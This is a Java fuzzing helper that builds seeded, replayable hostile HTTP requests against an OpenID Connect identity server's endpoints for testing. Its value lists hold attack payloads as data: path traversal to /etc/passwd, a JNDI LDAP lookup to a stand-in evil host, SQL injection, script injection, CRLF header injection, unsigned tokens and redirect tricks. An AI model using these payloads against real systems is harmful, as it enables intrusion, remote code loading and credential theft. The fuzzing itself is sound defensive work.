package dev.keyward.testing;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

/**
 * A seeded stream of random and hostile requests against a realm's endpoints: real parameter
 * names with valid, malformed, oversized and injection values, and standard headers with
 * malformed values. The same seed gives the same requests, so a failure can be replayed.
 */
public final class HostileRequests {

    /** Marks reflected input: a page that shows it unescaped has let HTML through. */
    public static final String MARKUP_MARKER = "<keyward-xss";

    private static final String[] PARAMETERS = {"client_id", "redirect_uri", "response_type", "scope", "state", "nonce",
            "code_challenge", "code_challenge_method", "response_mode", "prompt", "max_age", "login_hint", "ui_locales", "request",
            "request_uri", "grant_type", "code", "code_verifier", "refresh_token", "client_secret", "client_assertion",
            "client_assertion_type", "token", "token_type_hint", "id_token_hint", "post_logout_redirect_uri", "resource", "claims",
            "acr_values", "session_code", "execution", "tab_id", "kc_locale", "dpop_jkt", "error", "username", "password"};
    private static final String[] HEADERS = {"Content-Type", "Accept", "Accept-Language", "Authorization", "DPoP", "Cookie",
            "Origin", "Referer", "User-Agent", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded"};
    private static final String[] HOSTILE = {"", " ", "%", "%zz", "%00", "\u0000", "\u202e", "\ud83d\ude00", "null", "undefined",
            "-1", "0", "99999999999999999999", "1e309", "NaN", "true", "[]", "{}", "{\"a\":", "[[[[[[[[[[[[[[[[", "a.b.c", "..", "../../etc/passwd",
            "*", "https://evil.example/cb", "//evil.example", "javascript:alert(1)", "data:text/html,x", "http://127.0.0.1:1/cb",
            "https://app.example/cb#frag", "https://app.example/cb/../cb", "https://APP.example/cb", "https://app.example/cb?x=1",
            "https://app.example/cb%2f..", "${jndi:ldap://evil.example/a}", "' OR '1'='1", "\"><script>", "\r\nSet-Cookie: x=y",
            "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo",
            "code", "token", "id_token", "code id_token", "none", "plain", "S256", "S512", "openid", "openid offline_access",
            "authorization_code", "refresh_token", "client_credentials", "password", "urn:ietf:params:oauth:grant-type:device_code",
            "public-app", "confidential-app", "legacy-wildcard", "admin-cli", "security-admin-console", "broker", "realm-management"};
    private static final String[] HEADER_VALUES = {"", ";;;", "text/html;q=", "*/*;q=abc", "application/json; charset=bogus",
            "application/x-www-form-urlencoded; charset=\"", "multipart/form-data; boundary=", "en;q=abc", "en;q=5", "xx-XX-xxxxxxxxxxxx",
            "Bearer", "Bearer ", "Bearer a.b.c", "Basic", "Basic !!!", "Basic YQ==", "DPoP x.y.z", "Negotiate abc", "$Version=x",
            "a=b; ; =c", "KC_RESTART=" + "x".repeat(100), "KEYCLOAK_IDENTITY=a.b.c", "null", "http://evil.example", "::::",
            "for=;host=\"a b\"", "256.256.256.256", "https", "gopher", "a".repeat(6000), "\u00e9\u00e8\u00ff",
            "eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2IiwiandrIjp7Imt0eSI6IkVDIiwiY3J2IjoiUC0yNTYiLCJ4IjoiYSIsInkiOiJiIn19.eyJodG0iOiJQT1NUIn0.c2ln"};

    private final Random random;
    private final URI base;
    private final List<Endpoint> endpoints;
    private int markers;

    /** An endpoint, its method, and whether a form body goes with it. */
    public record Endpoint(String path, String method) {
    }

    /** One generated request, with what it was made of for the failure report. */
    public record Hostile(int number, HttpRequest request, String description, List<String> markers) {
    }

    public HostileRequests(long seed, URI base, List<Endpoint> endpoints) {
        this.random = new Random(seed);
        this.base = base;
        this.endpoints = List.copyOf(endpoints);
    }

    /** The endpoints of a realm that a client or browser reaches, and Keyward's own. */
    public static List<Endpoint> endpointsOf(String realm) {
        String path = "/realms/" + realm;
        String oidc = path + "/protocol/openid-connect";
        return List.of(new Endpoint(path + "/.well-known/openid-configuration", "GET"),
                new Endpoint(path + "/.well-known/oauth-authorization-server", "GET"),
                new Endpoint(oidc + "/auth", "GET"), new Endpoint(oidc + "/auth", "POST"),
                new Endpoint(oidc + "/ext/par/request", "POST"), new Endpoint(oidc + "/token", "POST"),
                new Endpoint(oidc + "/userinfo", "GET"), new Endpoint(oidc + "/userinfo", "POST"),
                new Endpoint(oidc + "/token/introspect", "POST"), new Endpoint(oidc + "/revoke", "POST"),
                new Endpoint(oidc + "/logout", "GET"), new Endpoint(oidc + "/logout", "POST"), new Endpoint(oidc + "/certs", "GET"),
                new Endpoint(path + "/clients-registrations/openid-connect", "POST"),
                new Endpoint(path + "/login-actions/authenticate", "GET"), new Endpoint(path + "/login-actions/authenticate", "POST"),
                new Endpoint(path + "/login-actions/required-action", "POST"), new Endpoint(path + "/login-actions/restart", "GET"),
                new Endpoint(path + "/keyward-brand/brand.css", "GET"), new Endpoint("/admin/realms/" + realm + "/keyward-oauth21/compliance", "GET"),
                new Endpoint("/admin/realms/" + realm + "/keyward-oauth21/exemptions", "PUT"));
    }

    public Hostile next(int number) {
        Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
        List<String> used = new ArrayList<>();
        Map<String, String> parameters = new LinkedHashMap<>();
        int count = random.nextInt(8);
        for (int i = 0; i < count; i++) {
            parameters.put(pick(PARAMETERS), value(used));
        }
        String query = form(parameters);
        boolean inQuery = endpoint.method().equals("GET") || random.nextInt(4) == 0;
        URI uri = base.resolve(endpoint.path() + (inQuery && !query.isEmpty() ? "?" + query : ""));
        HttpRequest.Builder request = HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(30));
        StringBuilder description = new StringBuilder(endpoint.method()).append(' ').append(uri);
        int headers = random.nextInt(4);
        for (int i = 0; i < headers; i++) {
            String name = pick(HEADERS);
            String value = random.nextBoolean() ? pick(HEADER_VALUES) : headerSafe(value(used));
            request.header(name, value);
            description.append("\n  ").append(name).append(": ").append(abbreviate(value));
        }
        if (endpoint.method().equals("GET")) {
            request.GET();
        } else {
            byte[] body = body(parameters, endpoint);
            if (headers == 0 || random.nextBoolean()) {
                request.header("Content-Type", endpoint.path().contains("registrations") || endpoint.method().equals("PUT")
                        ? "application/json" : "application/x-www-form-urlencoded");
            }
            request.method(endpoint.method(), HttpRequest.BodyPublishers.ofByteArray(body));
            description.append("\n  body (").append(body.length).append(" bytes): ")
                    .append(abbreviate(new String(body, StandardCharsets.ISO_8859_1)));
        }
        return new Hostile(number, request.build(), description.toString(), used);
    }

    private byte[] body(Map<String, String> parameters, Endpoint endpoint) {
        return switch (random.nextInt(7)) {
            case 0 -> new byte[] {(byte) 0xff, (byte) 0xfe, 'a', '=', (byte) 0xc3};
            case 1 -> ("client_id=public-app&" + "x=" + "y".repeat(200_000)).getBytes(StandardCharsets.UTF_8);
            case 3 -> "client_id=public-app&grant_type=%zz&scope=%E0%A4".getBytes(StandardCharsets.UTF_8);
            case 2 -> ("{\"redirect_uris\":[\"" + pick(HOSTILE).replace("\"", "") + "\"],\"client_name\":" + (random.nextBoolean() ? "1" : "\"x\"")
                    + ",\"grant_types\":[\"" + pick(HOSTILE).replace("\"", "") + "\"]}").getBytes(StandardCharsets.UTF_8);
            default -> endpoint.path().contains("registrations") && random.nextBoolean()
                    ? "{\"a\":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]".getBytes(StandardCharsets.UTF_8)
                    : form(parameters).getBytes(StandardCharsets.UTF_8);
        };
    }

    private String value(List<String> used) {
        return switch (random.nextInt(10)) {
            case 0 -> "x".repeat(1 + random.nextInt(20_000));
            case 1 -> {
                String marker = MARKUP_MARKER + (++markers) + " onload=alert(1)>";
                used.add(marker);
                yield marker;
            }
            case 2 -> randomText(1 + random.nextInt(40));
            default -> pick(HOSTILE);
        };
    }

    private String randomText(int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append((char) (random.nextInt(4) == 0 ? random.nextInt(0x3000) : 0x20 + random.nextInt(0x5f)));
        }
        return text.toString();
    }

    /** Java's HTTP client refuses control characters and non-Latin-1 in header values; keep what it can send. */
    private static String headerSafe(String value) {
        return value.chars().filter(c -> c == '\t' || (c >= 0x20 && c != 0x7f && c <= 0xff))
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString().strip();
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }

    private static String form(Map<String, String> parameters) {
        return parameters.entrySet().stream()
                .map(e -> e.getKey() + "=" + URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8))
                .collect(Collectors.joining("&"));
    }

    private static String abbreviate(String value) {
        return value.length() > 200 ? value.substring(0, 200) + "... (" + value.length() + " chars)" : value;
    }
}
